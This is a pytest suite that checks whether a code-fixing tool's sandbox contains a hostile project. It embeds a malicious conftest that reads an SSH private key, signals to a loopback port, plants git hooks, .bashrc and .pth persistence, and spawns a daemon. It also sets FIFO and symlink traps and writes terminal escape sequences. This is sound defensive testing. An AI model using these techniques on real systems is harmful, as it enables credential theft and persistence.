"""Hostile projects through the front door: `verdigris fix` on a stranger's tree."""

from __future__ import annotations

import asyncio
import json
import os
import pty
import secrets
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from hostile_watch import end, marked

from verdigris.errors import SandboxUnavailable
from verdigris.sandbox.trial import try_bubblewrap

GOOD = "```python\ndef double(n):\n    return n * 2\n```"
PLAN = {"which function should change": "`double` adds.", "three short lines": "LESSON: multiply"}
MODULE = "def double(n):\n    return n + 2\n"
TESTS = "from maths import double\n\n\ndef test_double():\n    assert double(5) == 10\n"
CONFTEST = """
import os, pathlib, socket, subprocess, sys

HOME, TREE, DATA, PORT, MARK = {values!r}

def attempt(action):
    try:
        action()
    except Exception as error:
        print("could not:", error)

def tell(text):
    with socket.create_connection(("127.0.0.1", PORT), 1) as link:
        link.sendall(text.encode())

def plant(path, text):
    path = pathlib.Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)

def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvpe("sleep", ["sleep", "60"], dict(os.environ, MARK=MARK))
        os._exit(0)

attempt(lambda: print(pathlib.Path(HOME, ".ssh", "id_ed25519").read_text()))
attempt(lambda: tell(MARK))
attempt(lambda: plant(pathlib.Path(TREE, ".git", "hooks", "post-checkout"), "#!/bin/sh\\n"))
attempt(lambda: plant(pathlib.Path(TREE, "planted.py"), MARK))
attempt(lambda: plant(pathlib.Path(HOME, ".bashrc"), MARK))
attempt(lambda: plant(pathlib.Path(DATA, "planted"), MARK))
attempt(lambda: plant(pathlib.Path(sys.prefix, "planted.pth"), MARK))
attempt(lambda: plant(pathlib.Path(__file__).parents[1] / "planted", MARK))
attempt(daemon)
"""


@dataclass
class Stage:
    folder: Path
    python: Path
    environment: Path
    mark: str = field(default_factory=lambda: f"vgmark{secrets.token_hex(8)}")
    secret: str = field(default_factory=lambda: f"secret-{secrets.token_hex(12)}")

    @property
    def home(self) -> Path:
        return self.folder / "home"

    @property
    def tree(self) -> Path:
        return self.home / "code" / "project"

    @property
    def data(self) -> Path:
        return self.home / ".local" / "share" / "verdigris"

    def put(self, files: dict[str, str]) -> None:
        for name, text in files.items():
            path = self.tree / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)

    def command(self, *words: str) -> tuple[list[str], dict[str, str]]:
        script = self.folder / "script.json"
        script.write_text(json.dumps({"last": GOOD, "when": PLAN}))
        argv = [sys.executable, "-m", "verdigris", "fix", str(self.tree), *words]
        argv += ["--model", f"scripted:{script}", "--python", str(self.python)]
        env = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.home),
            "VERDIGRIS_PATHS__DATA": str(self.data),
            "VERDIGRIS_CASCADE__TIERS": "recall,fast,strong",
            "VERDIGRIS_SUITE__OBSERVE_SECONDS": "0",
            "VERDIGRIS_PATHS__CACHE": str(self.folder / "cache"),
            "VERDIGRIS_CHECKS__RUFF_CMD": "true",
            "VERDIGRIS_CHECKS__BANDIT_CMD": "true",
            "ANTHROPIC_API_KEY": self.secret,
        }
        return argv, env

    def fix(self, *words: str) -> subprocess.CompletedProcess[str]:
        argv, env = self.command(*words)
        return subprocess.run(
            argv, env=env, capture_output=True, text=True, timeout=120, check=False
        )


@pytest.fixture
def stage(tmp_path: Path, lean_python: Path, lean_environment: Path) -> Iterator[Stage]:
    try:
        asyncio.run(try_bubblewrap(os.environ["PATH"]))
    except SandboxUnavailable as error:
        pytest.skip(error.show())
    stage = Stage(tmp_path, lean_python, lean_environment)
    key = stage.home / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    key.write_text(stage.secret)
    stage.put({"maths.py": MODULE, "test_maths.py": TESTS})
    subprocess.run(["git", "init", "-q", str(stage.tree)], check=True)
    yield stage
    end(stage.mark)


@pytest.fixture
def heard() -> Iterator[tuple[int, Callable[[], bool]]]:
    """Give a port on loopback, and whether anybody has called it."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)

        def called() -> bool:
            try:
                server.accept()[0].close()
            except BlockingIOError:
                return False
            return True

        yield server.getsockname()[1], called


def test_a_hostile_conftest_gets_nothing_and_leaves_nothing(
    stage: Stage, heard: tuple[int, Callable[[], bool]]
) -> None:
    port, called = heard
    values = (str(stage.home), str(stage.tree), str(stage.data), port, stage.mark)
    stage.put({"conftest.py": CONFTEST.format(values=values)})
    hooks = sorted((stage.tree / ".git" / "hooks").iterdir())
    done = stage.fix()
    assert marked(stage.mark) == []
    assert done.returncode == 0, done.stdout + done.stderr
    assert not called()
    assert stage.secret not in done.stdout + done.stderr
    kept = [path for path in stage.data.rglob("*") if path.is_file()]
    assert kept
    assert [path for path in kept if stage.secret.encode() in path.read_bytes()] == []
    places = (stage.folder, stage.environment)
    assert [path for place in places for path in place.rglob("planted*")] == []
    assert not (stage.home / ".bashrc").exists()
    assert sorted((stage.tree / ".git" / "hooks").iterdir()) == hooks


@pytest.mark.thorough
def test_the_same_conftest_succeeds_where_it_is_only_limited(
    stage: Stage, heard: tuple[int, Callable[[], bool]]
) -> None:
    """Shows that the test above would notice."""
    port, called = heard
    values = (str(stage.home), str(stage.tree), str(stage.data), port, stage.mark)
    stage.put({"conftest.py": CONFTEST.format(values=values)})
    stage.fix("--sandbox", "process")
    assert called()
    assert (stage.tree / "planted.py").exists()
    assert (stage.home / ".bashrc").exists()


@pytest.mark.parametrize(
    "trap",
    ["mkfifo $place/TEST-a.xml", "ln -s {private} $place/TEST-a.xml"],
    ids=["a pipe nobody writes to", "a link to a private file"],
)
def test_traps_among_the_files_that_stay_do_not_catch_the_reader(stage: Stage, trap: str) -> None:
    private = stage.home / "private.xml"
    private.write_text(f'<testsuite><testcase name="{stage.secret}"/></testsuite>')
    find = "place=$(sed -n 's/^[^ ]* [^ ]* [^ ]* [^ ]* \\([^ ]*written\\) .*/\\1/p'"
    lines = (f"{find} /proc/self/mountinfo | head -n 1)", trap.format(private=private), "exit 1")
    stage.put({"run.sh": "\n".join(lines) + "\n"})
    done = stage.fix("--test-cmd", "sh run.sh", "--max-iters", "1", "--json")
    assert json.loads(done.stdout)
    assert stage.secret not in done.stdout
    kept = [path for path in stage.data.rglob("*") if path.is_file()]
    assert [path for path in kept if stage.secret.encode() in path.read_bytes()] == []


@pytest.mark.thorough
def test_escape_sequences_of_a_test_do_not_reach_the_terminal(stage: Stage) -> None:
    evil = "\\x1b]0;owned\\x07\\x1b]52;c;b3duZWQ=\\x07\\x1b[2J\\x9b31m"
    stage.put(
        {
            "conftest.py": f'import sys\nsys.stdout.write("{evil}")\n',
            "test_maths.py": f'{TESTS}\n\ndef test_evil():\n    assert False, "{evil}"\n',
        }
    )
    argv, env = stage.command("--verbose", "--max-iters", "1")
    master, slave = pty.openpty()
    with subprocess.Popen(
        argv, env={**env, "TERM": "xterm"}, stdin=slave, stdout=slave, stderr=slave
    ) as process:
        os.close(slave)
        shown = b""
        try:
            while more := os.read(master, 65536):
                shown += more
        except OSError:
            pass  # the last one has closed the terminal
        process.wait(240)
    os.close(master)
    assert b"test_evil" in shown
    for sequence in (b"\x1b]0;", b"\x1b]52;", b"\x1b[2J", b"\xc2\x9b"):
        assert sequence not in shown
